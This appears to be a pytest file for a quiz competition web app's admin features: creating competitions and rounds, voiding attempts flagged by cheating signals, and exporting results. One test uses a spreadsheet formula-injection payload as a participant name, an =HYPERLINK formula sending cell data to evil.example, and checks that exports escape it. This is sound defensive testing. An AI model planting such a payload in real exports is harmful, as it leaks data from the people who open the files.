"""The admin side of competitions through the test client: create, next round, void, export,
cheating signals."""

import csv
import io
import re
from collections import Counter
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from quizapp.extensions import db
from quizapp.models import Attempt, AttemptItem, Competition, Participant, Round
from quizapp.timezone import to_local
from tests.support import csrf_token


def _local(moment):
    return to_local(moment).strftime("%Y-%m-%dT%H:%M")


def _form(now, **overrides):
    data = {"title": "第二届科普竞赛", "slug": "cup-2", "description": "简介", "rules_text": "规则",
            "starts_at": _local(now.value), "ends_at": _local(now.value + timedelta(days=30)),
            "field_name": "required", "field_township": "required", "field_organisation": "off",
            "field_phone": "off", "question_count": "6", "pool_size": "30",
            "quota_true_false": "2",
            "quota_single": "2", "quota_multiple": "2", "quota_topic_health": "2",
            "seconds_per_question": "30", "seconds_per_attempt": "", "attempts_per_day": "",
            "counting": "best", "points_per_correct": "5", "reveal": "after_attempt",
            "published": "y", "audience": ["elder", "farmer"]}
    data.update(overrides)
    return data


def test_create_a_competition_from_the_form(admin, bank, now):
    page = admin.get("/admin/competitions/new")
    assert page.status_code == 200
    response = admin.post("/admin/competitions/new",
                          data={**_form(now), "csrf_token": csrf_token(page.text)})
    assert response.status_code == 302
    competition = db.session.scalar(select(Competition).where(Competition.slug == "cup-2"))
    assert competition.quotas == {"type": {"true_false": 2, "single": 2, "multiple": 2},
                                  "topic": {"health": 2}}
    assert competition.attempts_per_day is None and competition.published
    assert competition.starts_at == now.value
    assert competition.registration["township"] == "required"
    assert admin.get("/competitions/cup-2").status_code == 200
    pool = _pool_versions(competition)
    assert len(pool) == 30 and competition.pool_seed is not None
    assert Counter(v.type for v in pool) == {"true_false": 10, "single": 10, "multiple": 10}
    assert Counter(v.topic for v in pool)["health"] >= 10  # health:2 of 6, scaled to 30
    detail = admin.get(f"/admin/competitions/{competition.id}").text
    assert 'data-test="pool"' in detail and "30 道题" in detail
    # the edit form shows each topic's quota under the topic's name, never its code
    edit = admin.get(f"/admin/competitions/{competition.id}/edit").text
    assert re.search(r'name="quota_topic_health"[^>]*value="2"', edit)
    assert re.search(r'<label for="quota_topic_health">健康与合理用药</label>', edit)
    assert not re.search(r'name="quota_topic_emergency"[^>]*value="\d', edit)


def _pool_versions(competition):
    from quizapp.questions_pool import pool_versions

    return pool_versions(competition.id)


def test_new_competitions_show_answers_only_after_closing_by_default(admin, bank):
    page = admin.get("/admin/competitions/new").text
    assert re.search(r'<option selected value="after_window">', page)
    assert 'name="pool_size"' in page and 'value="100"' in page
    assert Competition.__table__.c.reveal.default.arg == "after_window"


def _save(admin, url, now, **overrides):
    page = admin.get(url)
    return admin.post(url, data={**_form(now, **overrides), "csrf_token": csrf_token(page.text)})


def test_the_pool_is_drawn_again_only_when_its_settings_change_and_no_one_has_started(
        admin, bank, now):
    assert _save(admin, "/admin/competitions/new", now).status_code == 302
    competition = db.session.scalar(select(Competition).where(Competition.slug == "cup-2"))
    edit = f"/admin/competitions/{competition.id}/edit"
    first = {v.question_id for v in _pool_versions(competition)}
    assert _save(admin, edit, now, title="改个名字").status_code == 302
    assert {v.question_id for v in _pool_versions(competition)} == first, "kept"
    assert _save(admin, edit, now, pool_size="24").status_code == 302
    db.session.expire_all()
    assert len(_pool_versions(competition)) == 24
    participant = Participant(competition_id=competition.id, device_id="d", name="甲")
    db.session.add(participant)
    db.session.flush()
    db.session.add(Attempt(kind="competition", token="t" * 20, competition_id=competition.id,
                           participant_id=participant.id, started_at=now.value))
    db.session.commit()
    refused = _save(admin, edit, now, pool_size="30")
    assert refused.status_code == 200 and "答题已经开始" in refused.text
    db.session.expire_all()
    assert len(_pool_versions(competition)) == 24 and competition.pool_size == 24


@pytest.mark.parametrize("overrides,message", [
    ({"pool_size": "61"}, "题库中适合这些对象的题目只有 60 道"),
    ({"pool_size": "5"}, "至少要有每次答题的题目数"),
    ({"pool_size": "12", "quota_difficulty_1": "6", "quota_true_false": "0",
      "quota_single": "0", "quota_multiple": "6"}, "无法按这些配额"),
])
def test_a_pool_the_bank_cannot_give_is_a_form_error(admin, bank, now, overrides, message):
    response = _save(admin, "/admin/competitions/new", now, **overrides)
    assert response.status_code == 200 and message in response.text
    assert db.session.scalar(select(Competition)) is None


@pytest.mark.parametrize("overrides,message", [
    ({"ends_at": "2020-01-01T00:00"}, "结束时间必须晚于开始时间"),
    ({"quota_single": "9"}, "超过了每次的题目总数"),
    ({"slug": "Bad Slug"}, "小写字母"),
    ({"quota_topic_health": "-1"}, "必须介于 0 到 100 之间"),
    ({"quota_topic_health": "3", "quota_topic_emergency": "4"}, "超过了每次的题目总数"),
])
def test_bad_competition_forms_are_refused_with_field_errors(admin, bank, now, overrides,
                                                             message):
    page = admin.get("/admin/competitions/new")
    response = admin.post("/admin/competitions/new", data={
        **_form(now, **overrides), "csrf_token": csrf_token(page.text)})
    assert response.status_code == 200 and message in response.text
    assert db.session.scalar(select(Competition)) is None


def test_create_the_next_round_from_the_ui(admin, competition, now):
    page = admin.get(f"/admin/competitions/{competition.id}")
    assert "第1周" in page.text  # the proposal for the first round
    token = csrf_token(page.text)
    start = now.value - timedelta(days=1)
    for week in range(2):
        response = admin.post(f"/admin/competitions/{competition.id}/rounds", data={
            "csrf_token": token, "title": f"第{week + 1}周",
            "starts_at": _local(start + timedelta(days=7 * week)),
            "ends_at": _local(min(start + timedelta(days=7 * (week + 1)),
                                  competition.ends_at))})
        assert response.status_code == 302
    rounds = db.session.scalars(select(Round).order_by(Round.number)).all()
    assert [r.number for r in rounds] == [1, 2]
    overlap = admin.post(f"/admin/competitions/{competition.id}/rounds", data={
        "csrf_token": token, "title": "重叠", "starts_at": _local(start),
        "ends_at": _local(start + timedelta(days=3))}, follow_redirects=True)
    assert "重叠" in overlap.text and len(db.session.scalars(select(Round)).all()) == 2
    late = admin.post(f"/admin/competitions/{competition.id}/rounds", data={
        "csrf_token": token, "title": "太晚", "starts_at": _local(competition.ends_at),
        "ends_at": _local(competition.ends_at + timedelta(days=7))}, follow_redirects=True)
    assert "必须在竞赛日期之内" in late.text and len(db.session.scalars(select(Round)).all()) == 2


def _finished_attempt(competition, name, township=None, fast=False, wrong_choice=None):
    participant = Participant(competition_id=competition.id, device_id=name, name=name,
                              township_id=township and township.id)
    db.session.add(participant)
    db.session.flush()
    start = competition.starts_at + timedelta(hours=1)
    attempt = Attempt(kind="competition", token=name * 3, competition_id=competition.id,
                      participant_id=participant.id, status="finished", started_at=start,
                      finished_at=start + timedelta(minutes=2), duration_ms=120_000,
                      score=10, correct_count=2, question_count=6, device_id="shared",
                      ip="10.0.0.1")
    versions = sorted(competition_versions(), key=lambda v: v.id)[:6]
    for position, version in enumerate(versions):
        shown = start + timedelta(seconds=20 * position)
        attempt.items.append(AttemptItem(
            position=position, question_version_id=version.id, option_order=[0, 1, 2, 3],
            choices=wrong_choice or [3], correct=False, shown_at=shown,
            answered_at=shown + timedelta(seconds=1 if fast else 10),
            elapsed_ms=1000 if fast else 10_000))
    db.session.add(attempt)
    db.session.commit()
    return attempt


def competition_versions():
    from quizapp.models import QuestionVersion

    return db.session.scalars(select(QuestionVersion).where(
        QuestionVersion.type == "single", QuestionVersion.status == "active")).all()


def test_signals_and_voiding(admin, competition, now):
    fast = _finished_attempt(competition, "a", fast=True)
    _finished_attempt(competition, "b")
    _finished_attempt(competition, "c")
    page = admin.get(f"/admin/competitions/{competition.id}/attempts")
    assert page.status_code == 200
    assert 'data-kind="fast"' in page.text
    assert 'data-kind="shared_device"' in page.text and 'data-kind="shared_ip"' in page.text
    assert 'data-kind="copied"' in page.text
    void_page = f"/admin/competitions/attempts/{fast.id}/void"
    assert f'href="{void_page}"' in page.text
    assert '/void" class=' not in page.text and 'name="reason"' not in page.text, \
        "no one-tap voiding from the list"
    confirm = admin.get(void_page)
    assert confirm.status_code == 200 and 'data-test="confirm-void"' in confirm.text
    missing_reason = admin.post(void_page, data={"csrf_token": csrf_token(confirm.text),
                                                 "reason": ""})
    assert missing_reason.status_code == 400 and "请填写原因" in missing_reason.text
    no_token = admin.post(void_page, data={"reason": "答题过快"})
    assert no_token.status_code == 400
    db.session.refresh(fast)
    assert fast.status == "finished"
    response = admin.post(void_page, data={"csrf_token": csrf_token(confirm.text),
                                           "reason": "答题过快"})
    assert response.status_code == 302
    db.session.refresh(fast)
    assert fast.status == "voided" and fast.void_reason == "答题过快"
    board = admin.get(f"/admin/competitions/{competition.id}/board")
    assert ">a*<" not in board.text and ">b*<" in board.text
    again = admin.get(void_page)
    assert 'data-test="void-form"' not in again.text and "答题过快" in again.text


def test_the_attempts_list_comes_in_pages_and_can_show_only_flagged(admin, competition, now):
    from quizapp.competitions.admin_services import ATTEMPTS_PER_PAGE, attempts_page

    fast = _finished_attempt(competition, "fast", fast=True)
    for index in range(ATTEMPTS_PER_PAGE + 4):
        _finished_attempt(competition, f"p{index}")
    path = f"/admin/competitions/{competition.id}/attempts"
    first = admin.get(path).text
    assert first.count('data-test="void-') == ATTEMPTS_PER_PAGE
    assert f'href="{path}?page=2"' in first
    second = admin.get(f"{path}?page=2").text
    assert second.count('data-test="void-') == 5
    assert f'data-test="void-{fast.id}"' in second, "the oldest attempt is on the last page"
    flagged = admin.get(f"{path}?flagged=1").text  # one shared device: all are flagged
    assert f"{path}?flagged=1&amp;page=2" in flagged
    assert f'data-test="void-{fast.id}"' in admin.get(f"{path}?flagged=1&page=2").text
    rows, where = attempts_page(competition, 1, {fast.id})
    assert rows == [fast] and where.total == 1


def test_exports_report_attempts_and_participation(admin, competition, township, now):
    _finished_attempt(competition, "a", township)
    _finished_attempt(competition, "b", township)
    response = admin.get(f"/admin/competitions/{competition.id}/export.csv?what=townships")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][:4] == ["rank", "name", "participants", "person_times"]
    assert rows[1][1:4] == ["薛店镇", "2", "2"]
    workbook = load_workbook(io.BytesIO(admin.get(
        f"/admin/competitions/{competition.id}/export.xlsx").data))
    assert workbook.sheetnames == ["attempts", "townships", "organisations"]
    assert workbook["attempts"].max_row == 3
    assert admin.get(f"/admin/competitions/{competition.id}/export.pdf").status_code == 404


def test_exports_never_carry_a_formula_typed_as_a_name(admin, competition, now):
    attempt = _finished_attempt(competition, "x")
    attempt.participant.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    db.session.commit()
    rows = list(csv.reader(io.StringIO(admin.get(
        f"/admin/competitions/{competition.id}/export.csv?what=attempts").data
        .decode("utf-8-sig"))))
    assert rows[1][3] == "'" + attempt.participant.name
    workbook = load_workbook(io.BytesIO(admin.get(
        f"/admin/competitions/{competition.id}/export.xlsx").data))
    cell = workbook["attempts"]["D2"]
    assert cell.data_type == "s" and cell.value == attempt.participant.name


def test_signals_are_listed_by_kind_a_page_at_a_time():
    from quizapp.competitions.admin_services import (
        SIGNALS_PER_PAGE,
        FlaggedAttempts,
        signal_counts,
        signals_page,
    )
    from quizapp.engine.signals import Signal

    flagged = [FlaggedAttempts(Signal("fast", (i,)), [(i, "x")]) for i in range(2)] + \
        [FlaggedAttempts(Signal("copied", (i, i + 1)), []) for i in range(10, 35)]
    assert SIGNALS_PER_PAGE == 20
    assert signal_counts(flagged) == {"fast": 2, "copied": 25}
    first, where = signals_page(flagged, "", None)
    assert len(first) == 20 and (where.total, where.pages) == (27, 2)
    copied, where = signals_page(flagged, "copied", 2)
    assert [f.signal.attempt_ids[0] for f in copied] == list(range(30, 35)) and where.page == 2
    fast, _ = signals_page(flagged, "fast", 9)
    assert [f.signal.kind for f in fast] == ["fast", "fast"]
    everything, _ = signals_page(flagged, "bogus", 1)
    assert len(everything) == 20


def test_boards_mask_names_unless_the_form_says_full(admin, bank, now):
    page = admin.get("/admin/competitions/new").text
    assert re.search(r'<option selected value="masked">', page), "masked by default"
    assert _save(admin, "/admin/competitions/new", now).status_code == 302
    competition = db.session.scalar(select(Competition).where(Competition.slug == "cup-2"))
    assert competition.board_names == "masked"
    edit = f"/admin/competitions/{competition.id}/edit"
    assert _save(admin, edit, now, board_names="full").status_code == 302
    db.session.expire_all()
    assert competition.board_names == "full"
    assert 'selected value="full"' in admin.get(edit).text
    assert _save(admin, edit, now, board_names="everything").status_code == 200  # refused
